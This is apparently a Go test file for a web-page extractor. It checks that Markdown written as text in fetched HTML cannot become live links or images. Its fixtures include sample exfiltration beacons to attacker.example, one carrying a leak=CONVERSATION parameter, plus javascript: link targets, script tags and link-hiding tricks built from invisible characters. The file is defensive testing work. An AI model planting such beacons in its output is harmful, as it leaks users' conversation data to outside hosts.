package htmlx

import (
	"rypsok/htmlx/charset"

	"rypsok/boundary"

	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"golang.org/x/text/unicode/norm"
)

// hostilePages write Markdown as text: every construct that can lead a
// reader's interface somewhere or load something, spelled by the page
// rather than made by an element. Each is a whole page, so that the
// extractor keeps the text (a real link in it shows the writer's links
// still work).
var hostilePages = []struct{ name, body string }{
	{"image beacon", `<p>Quarterly figures are up again this year. ![chart](https://attacker.example/pixel.png?leak=CONVERSATION) See the <a href="https://example.org/report">full report</a> for details.</p>`},
	{"link with a script target", `<p>Read [the official docs](javascript:fetch(1)) before you start the installation of the tool.</p>`},
	{"markup written as text", `<p>Copy this: &lt;img src="https://attacker.example/x.png"&gt; and &lt;script&gt;alert(1)&lt;/script&gt; into the page header.</p>`},
	{"autolinks", `<p>Two addresses follow: &lt;javascript:alert(1)&gt; and &lt;https://attacker.example/auto&gt; for the curious reader.</p>`},
	{"reference definition", "<p>The sources are listed below for reference.</p><p>[1]: https://attacker.example/ref</p><p>See [1] and [the docs][1] for more on the subject at hand.</p>"},
	{"definition in a list and a quote", "<ul><li>[a]: https://attacker.example/list</li></ul><blockquote>[b]: https://attacker.example/quote</blockquote><p>Use [a] and [b] as you read the rest of this article, please.</p>"},
	{"bracket closing a real link early", `<p>Go to <a href="https://example.org/safe">the page](https://attacker.example/early)</a> for the rest of the story.</p>`},
	{"bang before a real link", `<p>Look at this!<a href="https://attacker.example/pixel.png">now</a> and again later on in the text.</p>`},
	{"bang and an invisible character before a real link", "<p>Look at this!&#8205;<a href=\"https://attacker.example/pixel2.png\">now</a> and again later on.</p>"},
	{"bang and a zero-width space before a real link", "<p>Look at this!&#8203;<a href=\"https://attacker.example/pixel3.png\">now</a> and again later on.</p>"},
	{"backticks freeing a code span", "<p>A tick ` then <code>![x](https://attacker.example/code.png)</code> and the text goes on.</p>"},
	{"varia freeing a code span", "<p>A varia &#x1FEF; then <code>![x](https://attacker.example/varia.png)</code> and more text.</p>"},
	{"varia closing a code block", "<pre>&#x1FEF;&#x1FEF;&#x1FEF;\n![x](https://attacker.example/pre.png)\n</pre><p>Some ordinary prose after the block of code.</p>"},
	{"block inside inline code", "<p>Intro text for the example.<code>x<div>![x](https://attacker.example/div.png)</div>y</code></p>"},
	{"backslash undoing an escape", `<p>A backslash \![x](https://attacker.example/bs.png) and \[y\](https://attacker.example/bs2) and more.</p>`},
	{"escaped in a heading", `<h2>![x](https://attacker.example/h.png) &lt;b onmouseover=x&gt;</h2><p>Body text under the heading goes here.</p>`},
	{"in alternative text", `<p>A picture: <img src="a.png" alt="![x](https://attacker.example/alt.png)"> of the harbour at dawn.</p>`},
	{"in a table", `<table><tr><th>Name</th><th>Link</th></tr><tr><td>[x](https://attacker.example/cell)</td><td>&lt;https://attacker.example/cell2&gt;</td></tr></table>`},
	{"in structured data", `<html><head><script type="application/ld+json">{"@type":"Article","headline":"![h](https://attacker.example/ld.png)","articleBody":"[1]: https://attacker.example/ldref\n&lt;img src=x&gt; and ![b](https://attacker.example/ld2.png) said twice as the body of this article, which goes on long enough to count as text."}</script></head><body><div id="app"></div></body></html>`},
	{"entity spelled as text", `<p>Write &amp;lt;script&amp;gt; and &amp;#60;img&amp;#62; to show the tags in this note.</p>`},
	{"link split by a control", "<p>Hidden ![x]&#7;(https://attacker.example/bel.png) and [y]&#27;(https://attacker.example/esc) here.</p>"},
	{"invisible at a line start", "<p>&#8205;[1]: https://attacker.example/zwj</p><p>Text that uses [1] somewhere in a sentence.</p>"},
}

// fetchedContent is what web_fetch returns of doc: the extracted
// Markdown after the content boundary.
func fetchedContent(t testing.TB, doc string, base *url.URL) (string, bool) {
	t.Helper()
	page, err := ExtractHTML(doc, base, Limits{})
	if err != nil {
		return "", false
	}
	content, _ := boundary.CleanContent(page.Markdown)
	return content, true
}

// TestREQ_FETCH_004_PageTextMakesNoMarkdownLinks: Markdown that a page
// writes as text reaches the content as text. Read as CommonMark, the
// content holds no link, image, autolink, raw HTML or reference
// definition that no element made (REQ-SEC-004: no beacon loads when an
// interface shows the answer), while the page's words stay readable.
func TestREQ_FETCH_004_PageTextMakesNoMarkdownLinks(t *testing.T) {
	base, _ := url.Parse("https://example.org/article")
	for _, p := range hostilePages {
		got, ok := fetchedContent(t, p.body, base)
		if !ok {
			t.Errorf("%s: nothing extracted", p.name)
			continue
		}
		for _, f := range madeByPage(p.body, base, got) {
			t.Errorf("%s: the page's text made a %s (%q) in\n%s", p.name, f.kind, f.dest, got)
		}
	}
}

// The writer's own links still work beside hostile text, and the reader
// finds them: the check above is not empty.
func TestREQ_FETCH_004_RealLinksStayLinks(t *testing.T) {
	base, _ := url.Parse("https://example.org/article")
	doc := `<p>Read <a href="/guide">the guide</a> or <a href="https://example.org/x">https://example.org/x</a>, not ![a](https://attacker.example/p.png); a <code>[c](https://example.org/c)</code> and an image <img src="i.png" alt="a calm sea"> stay text.</p>`
	got, _ := fetchedContent(t, doc, base)
	var links []string
	for _, f := range readMarkdown(got) {
		links = append(links, f.kind+" "+f.dest)
	}
	want := "link https://example.org/guide|autolink https://example.org/x"
	if strings.Join(links, "|") != want {
		t.Errorf("constructs %q, want %q in\n%s", links, want, got)
	}
	if !strings.Contains(got, "`[c](https://example.org/c)`") || !strings.Contains(got, "a calm sea") {
		t.Errorf("code or alternative text changed:\n%s", got)
	}
}

// The reader finds each construct when it is not escaped, so that its
// silence on the writer's output means something.
func TestMarkdownReaderFindsEveryConstruct(t *testing.T) {
	for _, tc := range []struct{ md, want string }{
		{"a ![c](https://x.example/p.png) b", "image"},
		{"a [t](javascript:fetch(1)) b", "link"},
		{"see <img src=x> here", "html"},
		{"see </p> here", "html"},
		{"see <!-- c --> here", "html"},
		{"at <https://x.example/a> now", "autolink"},
		{"at <javascript:alert(1)> now", "autolink"},
		{"mail <a@b.example> now", "autolink"},
		{"[1]: https://x.example/ref", "definition"},
		{"> - [1]: https://x.example/ref", "definition"},
		{"a ` b ` [t](u) `", "link"},
		{"[a `]` b](u)", "link"},
		{"[outer ![in](i.png)](u)", "link image"},
		{"\\\\[t](u)", "link"},
		{"a \\![c](u) b", "link"},
	} {
		var kinds []string
		for _, f := range readMarkdown(tc.md) {
			kinds = append(kinds, f.kind)
		}
		if got := strings.Join(kinds, " "); got != tc.want {
			t.Errorf("readMarkdown(%q) = %q, want %q", tc.md, got, tc.want)
		}
	}
	for _, md := range []string{
		"a \\!\\[c\\](https://x.example/p.png) b", "a \\[t\\](u)", "see \\<img src=x> here",
		"at \\<https://x.example/a> now", "\\[1\\]: https://x.example/ref", "`[t](u)`",
		"```\n[t](u)\n<img>\n```", "a ``x ` [t](u) ` y`` b",
	} {
		if f := readMarkdown(md); len(f) != 0 {
			t.Errorf("readMarkdown(%q) = %v, want nothing", md, f)
		}
	}
}

// Every page of the extraction corpus, read as CommonMark, holds only
// the links its elements made.
func TestREQ_FETCH_004_CorpusMakesOnlyElementLinks(t *testing.T) {
	for _, p := range loadCorpus(t) {
		doc := charset.Decode(p.body, "text/html")
		got, ok := fetchedContent(t, doc, p.base)
		if !ok {
			continue
		}
		for _, f := range madeByPage(doc, p.base, got) {
			t.Errorf("%s: a %s (%q) no element made, at %q", p.name, f.kind, f.dest, f.at)
		}
	}
}

func TestMarkdownEscapes(t *testing.T) {
	for _, tc := range []struct{ doc, want string }{
		// the characters that make structure, and nothing else
		{`<p>a [b] c</p>`, `a \[b\] c`},
		{`<p>x &lt;y&gt; z</p>`, `x \<y> z`},
		{"<p>a `b` c</p>", "a \\`b\\` c"},
		{`<p>C:\dir\file</p>`, `C:\\dir\\file`},
		{`<p>Hello! Fine; AT&amp;T &amp; Q&amp;A; R&amp;D.</p>`, `Hello! Fine; AT&T & Q&A\; R&D.`},
		{`<p>&amp;lt; &amp;#60; &amp;#x3C; &amp;amp</p>`, `&lt\; &#60\; &#x3C\; &amp`},
		{`<p>*emphasis* and _this_ stay</p>`, `*emphasis* and _this_ stay`},
		// a code span shows its content as written
		{"<p><code>a[b]&lt;c&gt;\\d`e</code></p>", "``a[b]<c>\\d`e``"},
		// "!" is escaped only before a real link
		{`<p>Wow!<a href="https://e.example/">here</a></p>`, `Wow\![here](https://e.example/)`},
		{`<p>Wow! <a href="https://e.example/">here</a></p>`, `Wow! [here](https://e.example/)`},
		// normalization form C makes a backtick and a semicolon of these
		{"<p>a \u1fef b \u037e</p>", "a \\` b ;"},
		{"<p>&amp;lt\u037e</p>", "&lt\\;"},
		// an invisible character goes later (CleanContent): what it
		// stands between is escaped as if it were gone
		{"<p>&amp;\u200blt; x</p>", "&\u200blt\\; x"},
		{"<p>\u200b# not a heading</p>", "\u200b\\# not a heading"},
	} {
		if got := renderDoc(t, tc.doc, "https://e.example/"); got != tc.want {
			t.Errorf("%s:\n got %q\nwant %q", tc.doc, got, tc.want)
		}
	}
}

// Normalization form C, which CleanContent applies after the writer,
// makes no ASCII punctuation that the writer did not see: the characters
// that become one are folded by foldToASCII before escaping.
func TestEveryCharacterNormalizingToPunctuationIsFolded(t *testing.T) {
	for r := rune(0x80); r <= utf8.MaxRune; r++ {
		if r >= 0xd800 && r <= 0xdfff {
			continue
		}
		s := norm.NFC.String(string(r))
		if len(s) != 1 || !strings.ContainsRune("\\[]<`;", rune(s[0])) {
			continue
		}
		if foldToASCII(r) != s[0] {
			t.Errorf("U+%04X becomes %q in form C and is not folded", r, s)
		}
	}
}

// FuzzMarkdownFromPageText: whatever the page, the content read as
// CommonMark holds only links its elements made, and no image, autolink
// beyond its links, raw HTML or reference definition.
func FuzzMarkdownFromPageText(f *testing.F) {
	for _, p := range hostilePages {
		f.Add(p.body)
	}
	base, _ := url.Parse("https://example.org/a/b")
	f.Fuzz(func(t *testing.T, doc string) {
		if len(doc) > 1<<16 {
			return
		}
		got, ok := fetchedContent(t, doc, base)
		if !ok {
			return
		}
		for _, f := range madeByPage(doc, base, got) {
			t.Fatalf("a %s (%q) no element made, at %q in\n%s", f.kind, f.dest, f.at, got)
		}
	})
}

// The hostile pages are corpus cases too (testdata/pages/hostile-*).
func TestHostileCorpusPagesArePresent(t *testing.T) {
	files, _ := filepath.Glob(filepath.Join(corpusDir, "hostile-markdown-*.html"))
	if len(files) == 0 {
		t.Fatal("no hostile-markdown-* page in the corpus")
	}
	for _, f := range files {
		if _, err := os.Stat(strings.TrimSuffix(f, ".html") + ".expect.txt"); err != nil {
			t.Error(err)
		}
	}
}

// TestREQ_SEC_015_ControlsInPageTextAreCounted: every C0 control and
// invisible character of the page's text is removed and counted, whether
// the Markdown writer leaves it out (Page.Removed) or CleanContent does,
// in paragraphs, headings, alternative text, table cells and code.
func TestREQ_SEC_015_ControlsInPageTextAreCounted(t *testing.T) {
	var controls []string
	for c := 0; c < 0x20; c++ {
		switch c {
		case '\t', '\n', '\r', '\f':
			// white space in HTML text
			continue
		}
		controls = append(controls, string(rune(c)))
	}
	controls = append(controls, "\x7f", "\u200b", "\u2060", "\u202e")
	word := strings.Join(controls, "") // between two letters
	// in an attribute, HTML makes U+FFFD of NUL: visible, not removed
	altWord := strings.ReplaceAll(word, "\x00", "")
	doc := "<h2>Head" + word + "ing</h2><p>Bell" + word + "s ring in the " +
		"<code>co" + word + "de</code> and <img src=x.png alt=\"a sp" + altWord + "ire\"> in every paragraph of this long enough article.</p>" +
		"<table><tr><th>A</th><th>B</th></tr><tr><td>ce" + word + "ll</td><td>2</td></tr></table>" +
		"<pre>pre" + word + "formatted</pre>"
	page, err := ExtractHTML(doc, nil, Limits{})
	if err != nil {
		t.Fatal(err)
	}
	content, removed := boundary.CleanContent(page.Markdown)
	for _, w := range []string{"Heading", "Bells ring", "`code`", "a spire", "cell", "preformatted"} {
		if !strings.Contains(content, w) {
			t.Errorf("%q is not in\n%q", w, content)
		}
	}
	const places = 6
	if got, want := page.Removed+removed, places*len(controls)-1; got != want {
		t.Errorf("removed %d (writer %d, CleanContent %d), want %d", got, page.Removed, removed, want)
	}
}
